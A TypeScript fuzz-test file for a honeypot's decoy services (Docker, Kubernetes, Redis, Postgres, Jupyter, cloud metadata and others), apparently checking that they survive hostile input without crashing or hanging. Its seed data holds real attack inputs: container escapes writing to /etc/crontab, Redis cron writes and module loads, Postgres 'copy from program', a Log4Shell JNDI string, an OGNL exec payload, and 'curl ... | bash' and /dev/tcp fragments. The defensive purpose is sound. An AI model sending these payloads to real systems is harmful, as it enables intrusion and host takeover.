/**
 * Decoys, each over a connection of the kernel: what a visitor sends, whole or in pieces, ends in an answer and not in a
 * crash, a stall, or a connection that the decoy keeps open after the visitor has ended it.
 */
import type { Duplex } from 'node:stream';
import { setImmediate as nextTurn, setTimeout as wait } from 'node:timers/promises';
import { cutSmallBuffersFine } from '../../../src/honeypot/buffer-pool.ts';
import type { Connection, Decoy, Talk } from '../../../src/honeypot/decoy.ts';
import { loadAll } from '../../../src/honeypot/later.ts';
import { decoys } from '../../../src/honeypot/list.ts';
import { decodePayload } from '../../../src/honeypot/payload/decode.ts';
import { techniquesOf } from '../../../src/honeypot/payload/techniques.ts';
import { personaOf } from '../../../src/honeypot/persona/persona.ts';
import * as postgres from '../../../src/honeypot/postgres/fixtures/client.ts';
import { isBroken } from '../../../src/honeypot/sensor/attend.ts';
import { ja3, ja4, readClientHello } from '../../../src/honeypot/sensor/client-hello.ts';
import { createHosts } from '../../../src/honeypot/sensor/hosts.ts';
import type { Random } from '../random.ts';
import { socketPair } from '../socket-pair.ts';
import { chunksOf, expect, type Target } from '../target.ts';
import { shellTexts } from './text.ts';

const persona = personaOf('fuzz');

/** Milliseconds in which a decoy has to end, once its visitor has. Commands that it runs are bounded by themselves. */
const patience = (input: Buffer): number => 5000 + input.length / 20;

const piecesAlone = 12;

/** Sources come and go, so that state grows as it does in the world, and is forgotten. */
const sources = 40;

function decoyTarget(name: string, seeds: readonly Buffer[]): Target {
  let started: Promise<{ readonly decoy: Decoy; readonly talk: Talk }>;
  const hosts = createHosts(persona);
  const start = (): typeof started => {
    started ??= decoys[name]!.load().then(({ decoy }) => ({
      decoy,
      talk: decoy.start({ persona, host: hosts.of }),
    }));
    return started;
  };
  return {
    name: `decoy-${name}`,
    seeds: () => seeds,
    largest: 1 << 20,
    // Pulls, stops and log-ins take their time.
    atOnce: 256,
    async prepare() {
      cutSmallBuffersFine();
      await start();
      await loadAll();
    },
    async run(input, random) {
      const { decoy, talk } = await start();
      const [ours, theirs] = await socketPair();
      const source = `192.0.2.${random.below(sources)}`;
      const connection = connectionOver(theirs, decoy, name, source, hosts.of);
      let thrown: unknown;
      const fail = (error: unknown): void => {
        if (!isBroken(error)) thrown ??= error;
        theirs.destroy();
      };
      ours.on('error', () => {}).resume();
      theirs.on('error', () => {});
      const closed = new Promise<boolean>((resolve) => theirs.once('close', () => resolve(true)));
      try {
        talk(connection)?.catch(fail);
      } catch (error) {
        fail(error);
      }
      for (const [index, chunk] of chunksOf(input, random).entries()) {
        ours.write(chunk);
        // The first pieces are read one by one; what comes later the kernel joins as it likes.
        if (index < piecesAlone) await nextTurn();
      }
      ours.end();
      const late = new AbortController();
      const ended = await Promise.race([
        closed,
        wait(patience(input), false, { signal: late.signal }).catch(() => false),
      ]);
      late.abort();
      ours.destroy();
      theirs.destroy();
      expect(thrown === undefined, `threw ${thrown instanceof Error ? thrown.stack : thrown}`);
      expect(ended, `${name} keeps the connection open`);
    },
  };
}

function connectionOver(
  stream: Duplex,
  decoy: Decoy,
  port: string,
  ip: string,
  host: (source: string) => Connection['host'],
): Connection {
  let begun: (() => Uint8Array) | undefined;
  // As it is told of what was cut off.
  stream.once('close', () => begun?.());
  return {
    port,
    id: 'fuzz',
    src: { ip, port: 40_000 },
    dst: { ip: '192.0.2.250', port: 1 },
    stream,
    identify: () => {},
    async record(type) {
      expect(decoy.events[type] !== undefined, `no event ${type}`);
    },
    hurry(sofar) {
      begun ??= sofar;
    },
    relax() {
      begun = undefined;
    },
    get host() {
      return host(ip);
    },
  };
}

const bytesOf = (...texts: readonly string[]): Buffer[] => texts.map((text) => Buffer.from(text, 'latin1'));

/** @param body JSON, form, or nothing */
function request(line: string, body = '', headers = ''): string {
  const length =
    body === '' ? '' : `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n`;
  return `${line} HTTP/1.1\r\nHost: example\r\nUser-Agent: fuzz\r\n${headers}${length}\r\n${body}`;
}

const upgrade = 'Connection: Upgrade\r\nUpgrade: tcp\r\n';
const webSocket =
  'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';

const create = JSON.stringify({
  Image: 'alpine',
  Cmd: ['chroot', '/mnt', 'sh', '-c', 'echo "* * * * * root id" >> /etc/crontab'],
  HostConfig: { Binds: ['/:/mnt'], Privileged: true, NetworkMode: 'host' },
});

const dockerSeeds = bytesOf(
  request('HEAD /_ping'),
  request('GET /v1.41/containers/json?all=1&filters=%7B%22status%22%3A%5B%22running%22%5D%7D'),
  request('POST /v1.24/containers/create?name=x', create),
  request('POST /images/create?fromImage=alpine&tag=3', '', 'X-Registry-Auth: e30=\r\n'),
  request('POST /v1.41/containers/create', create) + request('GET /v1.41/info'),
  request('POST /v1.41/exec/x/start', '{"Detach":false,"Tty":true}', upgrade),
  request('PUT /containers/x/archive?path=/tmp', 'not a tar'),
  request('POST /v1.41/build?t=x&dockerfile=Dockerfile', 'FROM alpine'),
  'POST /auth HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{"a":\r\n2\r\n1}\r\n0\r\n\r\n',
);

const kubeletSeeds = bytesOf(
  request('GET /pods'),
  request('GET /runningpods/'),
  `POST /run/default/x/y HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\ncmd=id`,
  request('GET /exec/default/x/y?command=id&output=1&error=1', '', webSocket),
  request('GET /containerLogs/default/x/y?tailLines=5'),
);

const kubernetesSeeds = bytesOf(
  request('GET /version?timeout=5s'),
  request(
    'GET /api/v1/pods?limit=500&fieldSelector=spec.nodeName%3Dx',
    '',
    'Accept: application/json;as=Table;v=v1;g=meta.k8s.io,application/json\r\n',
  ),
  request(
    'POST /apis/apps/v1/namespaces/kube-system/daemonsets?fieldManager=kubectl',
    JSON.stringify({
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      metadata: { name: 'x', namespace: 'kube-system' },
      spec: {
        selector: { matchLabels: { a: 'b' } },
        template: {
          metadata: { labels: { a: 'b' } },
          spec: { containers: [{ name: 'c', image: 'alpine', command: ['id'] }] },
        },
      },
    }),
  ),
  request(
    'POST /apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
    'k8s\0\n1\n\x17authorization.k8s.io/v1',
  ),
  request(
    'PATCH /api/v1/namespaces/default/pods/x',
    '[{"op":"add","path":"/metadata/labels/a","value":"b"}]',
  ),
  request('GET /api/v1/namespaces/default/pods/x/exec?command=id&stdout=true', '', webSocket),
);

const redisSeeds = bytesOf(
  '*1\r\n$4\r\nPING\r\n*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$2\r\nab\r\n*2\r\n$3\r\nGET\r\n$1\r\nx\r\n',
  'CONFIG SET dir /var/spool/cron\r\nCONFIG SET dbfilename root\r\nSAVE\r\n',
  '*5\r\n$4\r\nEVAL\r\n$28\r\nreturn redis.call("get","x")\n\r\n$1\r\n0\r\n$1\r\na\r\n$1\r\nb\r\n',
  'HELLO 3\r\nCLIENT SETNAME x\r\nINFO all\r\nMULTI\r\nLPUSH l 1 2 3\r\nLRANGE l 0 -1\r\nEXEC\r\n',
  'SLAVEOF 192.0.2.1 6379\r\nMODULE LOAD /tmp/exp.so\r\nsystem.exec "id"\r\n',
  'ZADD z 1 a 2 b\r\nZRANGE z 0 -1 WITHSCORES\r\nHSET h a b\r\nHGETALL h\r\nDUMP z\r\nSCAN 0 MATCH * COUNT 10\r\n',
  'SET a xaybzc\r\nSET b abcxyz\r\nLCS a b IDX WITHMATCHLEN\r\nBITFIELD a OVERFLOW SAT INCRBY i5 #3 100 GET u63 7\r\n',
  'PFADD p a b c\r\nPFCOUNT p\r\nPFMERGE q p\r\nPFDEBUG DECODE p\r\nSETRANGE p 16 xyz\r\nPFADD p d\r\nPFDEBUG TODENSE p\r\n',
  'GEOADD g 13.4 38.1 a 15.1 37.5 b\r\nGEOSEARCH g FROMMEMBER a BYBOX 400 400 km ASC WITHDIST\r\nGEORADIUS g 15 37 200 km STORE h\r\n',
  'RESTORE r 0 "\\xc3\\x05\\x64aaaaa\\x0a\\x00" REPLACE\r\nRESTORE l 0 "\\x12\\x01\\x02\\x0d\\x0d\\x00\\x00\\x00"\r\n',
  'FUNCTION LOAD "#!lua name=l\\nredis.register_function(\'f\', function(k, a) return a end)"\r\nFCALL f 1 a b\r\nFUNCTION DUMP\r\n',
  // Counts and sizes that ended other decoys.
  '*4294967296\r\n',
  '*1\r\n'.repeat(2000),
  '*1\r\n$1000000000\r\nx',
);

const sshSeeds = bytesOf(
  'SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n',
  `SSH-2.0-Go\r\n\0\0\0\x3c\x06\x14${'k'.repeat(16)}${'\0\0\0\x01a'.repeat(8)}${'\0'.repeat(20)}`,
  'SSH-1.5-old\n',
  'SSH-2.0-x\r\n\0\0\0\0',
);

const etcdSeeds = bytesOf(
  request('GET /v2/keys/?recursive=true&sorted=true'),
  request('PUT /v2/keys/x?prevExist=false', 'value=1'),
  request('POST /v3/kv/range', '{"key":"AA==","range_end":"AA==","limit":"10"}'),
  request('POST /v3/kv/txn', '{"compare":[],"success":[{"requestPut":{"key":"YQ==","value":"Yg=="}}]}'),
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0',
);

/** A session of the PostgreSQL protocol: what comes in, and then what is asked. */
const postgresSession = (...asked: readonly Buffer[]): Buffer =>
  Buffer.concat([postgres.startup(), postgres.password('postgres'), ...asked]);

const postgresSeeds = [
  ...bytesOf('\0\0\0\x08\x04\xd2\x16\x2f', '\x3b\x9a\xca\0\0\x03\0\0'),
  postgres.startup(),
  postgresSession(
    postgres.query(
      "drop table if exists c; create table c(o text); copy c from program 'id'; select * from c",
    ),
  ),
  postgresSession(
    postgres.query(
      "select n, n::text || 'x', 1.5 * n from generate_series(1, 5) n where n in (1, 2) order by 1 desc",
    ),
    postgres.query(
      'select c.relname from pg_class c left join pg_namespace n on n.oid = c.relnamespace limit 3',
    ),
  ),
  postgresSession(
    postgres.query('create table t(a int primary key, b varchar(9)); copy t from stdin'),
    postgres.request('d', Buffer.from('1\tone\n2\t\\N\n')),
    postgres.request('c'),
    postgres.query("update t set b = 'x' where a = 1 returning *; begin; delete from t; rollback"),
  ),
  postgresSession(
    postgres.parse('s', 'select $1::int + 1, $2', [23]),
    postgres.describe('S', 's'),
    postgres.bind('', 's', ['7', null]),
    postgres.execute('', 1),
    postgres.sync,
  ),
  postgresSession(
    postgres.query(
      "do $$ declare x int := 0; begin for i in 1..3 loop x := x + i; end loop; if x > 5 then raise notice '%', x; end if; end $$",
    ),
    postgres.query(
      "select lo_from_bytea(0, '\\x7f45'); with recursive r(n) as (select 1 union all select n + 1 from r where n < 3) select regexp_replace('ab', '[a-z]', 'x', 'g'), n from r",
    ),
  ),
];

const httpSeeds = bytesOf(
  request('GET /'),
  request('GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/'),
  request('POST /ws/v1/cluster/apps', '{"am-container-spec":{"commands":{"command":"id"}}}'),
  request('GET /x', '', 'X-Api: ${${lower:j}ndi:${::-l}dap://192.0.2.1/a}\r\n'),
  request('POST /vendor/phpunit/src/Util/PHP/eval-stdin.php', '<?php system("id");'),
);

const jupyterSeeds = bytesOf(
  request('GET /api'),
  request('POST /api/terminals'),
  request('PUT /api/contents/x.txt', '{"type":"file","format":"text","content":"a"}'),
  `${request('GET /terminals/websocket/1', '', webSocket)}\x81\x90\0\0\0\0["stdin","id\\r"]`,
);

const weaveSeeds = bytesOf(
  request('GET /api/topology/containers'),
  request('POST /api/control/p/n/docker_exec_container', '{}'),
  request('GET /api/pipe/x', '', webSocket),
);

const imdsSeeds = bytesOf(
  request('PUT /latest/api/token', '', 'X-aws-ec2-metadata-token-ttl-seconds: 60\r\n'),
  request('GET /latest/meta-data/iam/security-credentials/', '', 'X-aws-ec2-metadata-token: AQAEAA==\r\n'),
);

const payloads: Target = {
  name: 'payload',
  seeds: () => bytesOf(...shellTexts, create, 'python3 -c "import base64;exec(base64.b64decode(\'aWQ=\'))"'),
  words: [
    'curl ',
    'http://192.0.2.1/a',
    '| bash',
    'base64 -d',
    '$(',
    'eval',
    '/dev/tcp/192.0.2.1/80',
    'chr(104)',
  ],
  largest: 1 << 20,
  run(input) {
    const norm = decodePayload(input.toString('utf8'));
    techniquesOf(norm.commands, norm);
    expect(
      norm.hosts.every((host) => !/[\s/]/.test(host)),
      'a host is no host',
    );
  },
};

const hello = Buffer.from(
  '16030100a5010000a10303' +
    '11'.repeat(32) +
    '00' +
    '0004c02b1301' +
    '0100' +
    '0074' +
    '0000000e000c0000096c6f63616c686f7374' +
    '000a00080006001d00170018' +
    '000b00020100' +
    '000d000a00080403080404010501' +
    '0010000e000c02683208687474702f312e31' +
    '002b00050403040303' +
    '00'.repeat(8),
  'hex',
);

const clientHello: Target = {
  name: 'client-hello',
  seeds: () => [hello],
  run(input: Buffer, _: Random) {
    const read = readClientHello(input);
    if (typeof read !== 'object') return;
    expect(/^[0-9a-f]{32}$/.test(ja3(read)), 'JA3 is no MD5');
    expect(
      /^t[0-9a-z]{2}[id]\d{4}[0-9A-Za-z]{2}_[0-9a-f]{12}_[0-9a-f]{12}$/.test(ja4(read)),
      'JA4 has another form',
    );
  },
};

/** How visitors begin, by the port that they come to, which is named as its decoy. */
const conversations: Readonly<Record<string, readonly Buffer[]>> = {
  docker: dockerSeeds,
  kubelet: kubeletSeeds,
  kubernetes: kubernetesSeeds,
  redis: redisSeeds,
  ssh: sshSeeds,
  postgres: postgresSeeds,
  etcd: etcdSeeds,
  http: httpSeeds,
  jupyter: jupyterSeeds,
  weave: weaveSeeds,
  imds: imdsSeeds,
};

export const decoyTargets: readonly Target[] = [
  payloads,
  clientHello,
  ...Object.keys(decoys).map((name) => decoyTarget(name, conversations[name] ?? bytesOf('hello\r\n'))),
];
